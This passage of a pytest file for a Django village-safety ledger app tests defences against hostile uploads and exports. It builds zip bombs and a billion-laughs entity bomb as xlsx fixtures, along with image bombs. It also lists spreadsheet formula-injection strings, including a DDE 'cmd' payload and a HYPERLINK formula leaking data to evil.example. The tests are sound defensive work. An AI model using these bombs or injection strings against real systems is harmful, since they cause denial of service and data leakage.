    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as copy:
        assert name in source.namelist()
        for info in source.infolist():
            if info.filename == name:
                with copy.open(name, "w") as stream:
                    write(stream)
            else:
                copy.writestr(info, source.read(info.filename))
    return buffer.getvalue()


def _padded_sheet(stream, megabytes: int) -> None:
    original = zipfile.ZipFile(io.BytesIO(incident_workbook())).read("xl/worksheets/sheet1.xml")
    head, tail = original.split(b"<sheetData>", 1)
    stream.write(head + b"<sheetData>")
    for _megabyte in range(megabytes):
        stream.write(b" " * 1024 * 1024)
    stream.write(tail)


@functools.cache
def xlsx_zip_bomb() -> bytes:
    """A workbook of a few hundred KB whose sheet unpacks to 200 MB."""
    return rewritten(incident_workbook(), "xl/worksheets/sheet1.xml", lambda stream: _padded_sheet(stream, 200))


@functools.cache
def xlsx_zip_bomb_that_lies() -> bytes:
    """The same bomb, its sheet's unpacked size written as 1,000 bytes in both zip headers."""
    data = bytearray(xlsx_zip_bomb())
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        position = data.find(signature)
        while position >= 0:
            name_at = position + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[position + size_at : position + size_at + 4] = struct.pack("<I", 1000)
            position = data.find(signature, position + 4)
    return bytes(data)


#: nine levels of entities, each ten of the one below: "&i;" is a billion "lol"s
LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY a "lol">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">'.encode() for n in range(8))
    + b"]>"
)


def _laughing_sheet(stream) -> None:
    sheet = zipfile.ZipFile(io.BytesIO(incident_workbook())).read("xl/worksheets/sheet1.xml")
    stream.write(LAUGHS + sheet.replace("员工受伤".encode(), b"&i;"))


@functools.cache
def xlsx_with_billion_laughs() -> bytes:
    return rewritten(incident_workbook(), "xl/worksheets/sheet1.xml", _laughing_sheet)


def docx_renamed() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/content-types"/>',
            "word/document.xml": b"<w:document/>",
        }
    )


UNREADABLE_WORKBOOK = "The file could not be read as an Excel workbook (.xlsx); it may be damaged."
BAD_WORKBOOKS = {
    "HTML renamed .xlsx": (b"<html><table><tr><td>=cmd|' /C calc'!A0</td></tr></table></html>", UNREADABLE_WORKBOOK),
    "CSV renamed .xlsx": ("名称,村\n=cmd|' /C calc'!A0,上元村\n".encode(), UNREADABLE_WORKBOOK),
    "photo renamed .xlsx": (jpeg_bytes(size=(40, 30)), UNREADABLE_WORKBOOK),
    "ELF program renamed .xlsx": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, UNREADABLE_WORKBOOK),
    "Word document renamed .xlsx": (docx_renamed, UNREADABLE_WORKBOOK),
    "old .xls renamed .xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "This is an old .xls workbook"),
    "zip bomb: a sheet unpacking to 200 MB": (xlsx_zip_bomb, UNREADABLE_WORKBOOK),
    "zip bomb lying about its unpacked size": (xlsx_zip_bomb_that_lies, UNREADABLE_WORKBOOK),
    "billion laughs in the sheet": (xlsx_with_billion_laughs, UNREADABLE_WORKBOOK),
}
IMPORT_PAGES = {
    "sites": ("inspections:site-import", Site),
    "incidents": ("incidents:incident-import", Incident),
}


@pytest.mark.parametrize("page", IMPORT_PAGES)
@pytest.mark.parametrize("case", BAD_WORKBOOKS, ids=list(BAD_WORKBOOKS))
def test_a_file_that_is_not_a_workbook_or_unpacks_to_too_much_is_refused_whole(
    client_for, town_admin, village_a, case, page
):
    content, message = BAD_WORKBOOKS[case]
    url_name, model = IMPORT_PAGES[page]
    upload = SimpleUploadedFile("台账.xlsx", content() if callable(content) else content, content_type=XLSX)

    response = client_for(town_admin).post(reverse(url_name), {"file": upload})

    assert response.status_code == 200
    assert shows(response, message)
    assert not model.objects.exists()


def test_the_bombs_are_small_files(db):
    """What makes them bombs: a few hundred KB that would unpack to 200 MB, or expand an entity a billion times."""
    assert len(xlsx_zip_bomb()) < 1024 * 1024
    assert len(xlsx_zip_bomb_that_lies()) == len(xlsx_zip_bomb())
    assert len(xlsx_with_billion_laughs()) < 64 * 1024


# --- formulas: imported as text, exported as text -----------------------------------------------------------

FORMULA_TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formulas_typed_in_an_imported_sheet_are_stored_as_the_text_they_are(client_for, town_admin, village_a):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(incident_headers())
    for number, text in enumerate(FORMULA_TEXTS, start=2):
        sheet.append(incident_row(text, location=text, cause=text))
        as_text(sheet, number)
    # a real formula cell: the workbook holds no value Excel computed for it, and the formula is never taken
    sheet.append(incident_row("公式单元格", cause='=HYPERLINK("http://evil.example","点击")'))
    upload = SimpleUploadedFile("历年事故.xlsx", _saved_book(book), content_type=XLSX)

    response = client_for(town_admin).post(reverse("incidents:incident-import"), {"file": upload})

    assert response.status_code == 200
    stored = {incident.summary: incident for incident in Incident.objects.all()}
    for text in FORMULA_TEXTS:
        assert (stored[text].location, stored[text].cause) == (text, text)
    assert stored["公式单元格"].cause == ""


def exported_book(client, url: str) -> openpyxl.Workbook:
    response = client.get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content))


def assert_kept_as_text(cells, texts) -> None:
    """Each text is in a string cell, exactly as typed, marked with Excel's quote prefix: never a formula."""
    by_value = {cell.value: cell for cell in cells}
    for text in texts:
        cell = by_value[text]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), (text, cell.data_type, cell.quotePrefix)


def test_the_incident_ledger_exports_formula_like_text_as_text(client_for, town_admin, village_a):
    for text in FORMULA_TEXTS:
        IncidentFactory(village=village_a, summary=text, cause=text)

    sheet = exported_book(client_for(town_admin), reverse("incidents:incident-export")).worksheets[0]

    assert_kept_as_text([row[13] for row in sheet.iter_rows(min_row=2)], FORMULA_TEXTS)
    assert_kept_as_text([row[12] for row in sheet.iter_rows(min_row=2)], FORMULA_TEXTS)


def test_the_hazard_ledger_exports_formula_like_text_as_text(client_for, town_admin, site):
    for text in FORMULA_TEXTS:
        FindingFactory(inspection__site=site, description=text)

    sheet = exported_book(client_for(town_admin), reverse("inspections:finding-export")).worksheets[0]

    assert_kept_as_text([row[7] for row in sheet.iter_rows(min_row=2)], FORMULA_TEXTS)


def test_the_outreach_ledger_exports_formula_like_text_as_text(client_for, town_admin, village_a):
    for text in FORMULA_TEXTS:
        ActivityFactory(village=village_a, title=text, notes=text, held_on=timezone.localdate())

    activities = exported_book(client_for(town_admin), reverse("outreach:export")).worksheets[1]

    assert_kept_as_text([row[2] for row in activities.iter_rows(min_row=2)], FORMULA_TEXTS)
    assert_kept_as_text([row[10] for row in activities.iter_rows(min_row=2)], FORMULA_TEXTS)


def test_the_letter_ledger_exports_a_signers_formula_like_name_as_text(client_for, town_admin, village_office, letter):
    from responsibility.signing import drawn_signature, letter_sign
    from tests.responsibility.signatures import drawn_url

    name = '=HYPERLINK("http://evil.example","何")'
    letter_sign(letter=letter, by=village_office, signature=drawn_signature(drawn_url()), signer_name=name)
    url = reverse("responsibility:rletter-ledger") + f"?year={letter.year}"

    sheet = exported_book(client_for(town_admin), url).worksheets[0]

    assert_kept_as_text([row[7] for row in sheet.iter_rows(min_row=2)], [name[:60]])


# --- what a picture costs a worker ------------------------------------------------------------------------

MEMORY_BOUND_MB = 200

#: run in a fresh interpreter: each case in a forked child whose peak-memory mark starts at its own size
MEASURE = textwrap.dedent(
    """
    import base64, gc, json, os, sys
    import django

    django.setup()
    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile
    from inspections.imports import read_rows
    from inspections.photos import process_photo
    from responsibility.signing import drawn_signature, scanned_signature

    PATHS = {
        "photo": lambda data: process_photo(SimpleUploadedFile("upload", data)),
        "scan": lambda data: scanned_signature(SimpleUploadedFile("upload", data)),
        "drawn": lambda data: drawn_signature("data:image/png;base64," + base64.b64encode(data).decode()),
        "import": lambda data: read_rows(SimpleUploadedFile("upload.xlsx", data)),
    }

    def status(field):
        with open("/proc/self/status") as lines:
            return next(int(line.split()[1]) for line in lines if line.startswith(field + ":")) / 1024

    for case in json.loads(sys.argv[1]):
        child = os.fork()
        if child == 0:
            with open(case["file"], "rb") as file:
                data = file.read()
            gc.collect()
            with open("/proc/self/clear_refs", "w") as refs:
                refs.write("5")  # the peak is now the present size
            before = status("VmRSS")
            try:
                PATHS[case["path"]](data)
                outcome = "taken"
            except ValidationError as error:
                outcome = "refused: " + " ".join(error.messages)
            growth = status("VmHWM") - before
            print(json.dumps({"name": case["name"], "growth": growth, "outcome": outcome}), flush=True)
            os._exit(0)
        os.waitpid(child, 0)
    """
)


def _gradient_file(size, mode: str, fmt: str, **options) -> bytes:
    return _saved(gradient(size, mode), fmt, **options)


def _drawn_pad(size) -> bytes:
    pad = Image.new("RGBA", size, (0, 0, 0, 0))
    ImageDraw.Draw(pad).line([(30, 150), (size[0] - 30, size[1] - 30)], fill=(17, 17, 17, 255), width=6)
    return _png(pad)


#: (what is measured, the path it takes, the file; whether it is taken)
MEMORY_CASES = [
    ("PNG bomb claiming 30000×30000", "photo", lambda: png_claiming(30_000, 30_000), False),
    ("JPEG bomb claiming 60000×60000", "photo", lambda: jpeg_claiming(60_000, 60_000), False),
    ("largest baseline JPEG photo, 40 MP", "photo", lambda: _gradient_file((7300, 5479), "RGB", "JPEG"), True),
    ("baseline JPEG photo of 40000×1000", "photo", lambda: _gradient_file((40_000, 1000), "RGB", "JPEG"), True),
    (
        "largest progressive JPEG photo, 16 MP",
        "photo",
        lambda: _gradient_file((4000, 4000), "RGB", "JPEG", progressive=True, subsampling=0),
        True,
    ),
    (
        "largest progressive CMYK JPEG photo, 12 MP",
        "photo",
        lambda: _gradient_file((4000, 3000), "CMYK", "JPEG", progressive=True),
        True,
    ),
    ("largest RGBA PNG photo, 12 MP", "photo", lambda: _gradient_file((4000, 3000), "RGBA", "PNG"), True),
    ("largest WebP photo, 10 MP", "photo", lambda: _gradient_file((3650, 2739), "RGB", "WEBP"), True),
    ("largest baseline JPEG scan, 30 MP", "scan", lambda: _gradient_file((4500, 6666), "RGB", "JPEG"), True),
    ("largest RGBA PNG scan, 12 MP", "scan", lambda: _gradient_file((3000, 4000), "RGBA", "PNG"), True),
    ("largest drawn signature, 8 MP", "drawn", lambda: _drawn_pad((4000, 2000)), True),
    ("drawn signature bomb claiming 30000×30000", "drawn", lambda: png_claiming(30_000, 30_000), False),
    ("xlsx zip bomb, 200 MB sheet", "import", xlsx_zip_bomb, False),
    ("xlsx zip bomb lying about its size", "import", xlsx_zip_bomb_that_lies, False),
    ("xlsx with a billion laughs", "import", xlsx_with_billion_laughs, False),
]


@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="measures peak memory through Linux's /proc")
def test_no_upload_costs_a_worker_more_than_200_mb(tmp_path, capsys):
    cases = []
    for number, (name, path, make, _taken) in enumerate(MEMORY_CASES):
        file = tmp_path / f"case-{number}"
        file.write_bytes(make())
        cases.append({"name": name, "path": path, "file": str(file)})

    run = subprocess.run(
        [sys.executable, "-c", MEASURE, json.dumps(cases)],
        cwd=django_settings.BASE_DIR,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "chashan_safety.settings", "LOG_LEVEL": "WARNING"},
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    measured = {result["name"]: result for result in map(json.loads, run.stdout.splitlines())}

    with capsys.disabled():
        print(f"\n{'peak growth':>12}  case → outcome")
        for name, *_rest in MEMORY_CASES:
            print(f"{measured[name]['growth']:>9.0f} MB  {name} → {measured[name]['outcome'][:90]}")
    for name, _path, _make, taken in MEMORY_CASES:
        assert measured[name]["outcome"].startswith("taken" if taken else "refused"), (name, measured[name])
        assert measured[name]["growth"] < MEMORY_BOUND_MB, (name, measured[name])


# --- reading a JPEG's layout ------------------------------------------------------------------------------


def test_a_baseline_jpeg_is_decoded_at_a_reduced_scale_and_a_progressive_one_whole():
    assert not jpeg_is_decoded_whole(jpeg_bytes(size=(64, 48)))
    assert jpeg_is_decoded_whole(jpeg_bytes(size=(64, 48), progressive=True))


def test_a_baseline_jpeg_whose_colours_come_in_separate_scans_is_decoded_whole():
    """libjpeg holds the whole picture when the first scan carries only some of the colour components."""
    frame = b"\xff\xc0\x00\x11\x08\x10\x00\x10\x00\x03" + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    interleaved = b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
    one_colour = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    assert not jpeg_is_decoded_whole(b"\xff\xd8" + frame + interleaved)
    assert jpeg_is_decoded_whole(b"\xff\xd8" + frame + one_colour)


def test_a_photo_taken_whole_by_process_photo_is_shrunk_to_2048_px():
    processed = process_photo(SimpleUploadedFile("big.png", _gradient_file((3000, 2000), "RGBA", "PNG")))
    assert (processed.width, processed.height) == (2048, 1365)


# --- a failure half-way through saving photos leaves no file behind ---------------------------------------


def failing_on_the_second_save(monkeypatch, model) -> None:
    """The database refuses the second photo's row (as when the connection drops), after its files were written."""
    insert, calls = model._do_insert, []

    def insert_or_fail(self, *args, **kwargs):
        calls.append(self)
        if len(calls) == 2:
            raise DatabaseError("server closed the connection unexpectedly")
        return insert(self, *args, **kwargs)

    monkeypatch.setattr(model, "_do_insert", insert_or_fail)


def two_photos() -> list:
    return [process_photo(SimpleUploadedFile(f"{n}.jpg", jpeg_bytes(size=(64, 48)))) for n in range(2)]


def test_a_fix_whose_second_photo_fails_to_save_leaves_no_file(finding, village_office, media, monkeypatch):
    from inspections.services import finding_submit_fix

    files_before = files_in(media)
    failing_on_the_second_save(monkeypatch, InspectionPhoto)

    with pytest.raises(DatabaseError):
        finding_submit_fix(finding=finding, by=village_office, note="已整改", photos=two_photos())

    assert files_in(media) == files_before
    assert not InspectionPhoto.objects.filter(kind=InspectionPhoto.Kind.AFTER).exists()


def test_an_activity_whose_second_photo_fails_to_save_leaves_no_file(village_office, village_a, media, monkeypatch):
    from outreach.services import activity_record

    failing_on_the_second_save(monkeypatch, OutreachPhoto)

    with pytest.raises(DatabaseError):
        activity_record(
            by=village_office,
            kind="drill",
            title="消防疏散演练",
            held_on=timezone.localdate(),
            village=village_a,
            organiser="村安全办",
            photos=two_photos(),
        )

    assert files_in(media) == []
    assert not Activity.objects.exists()
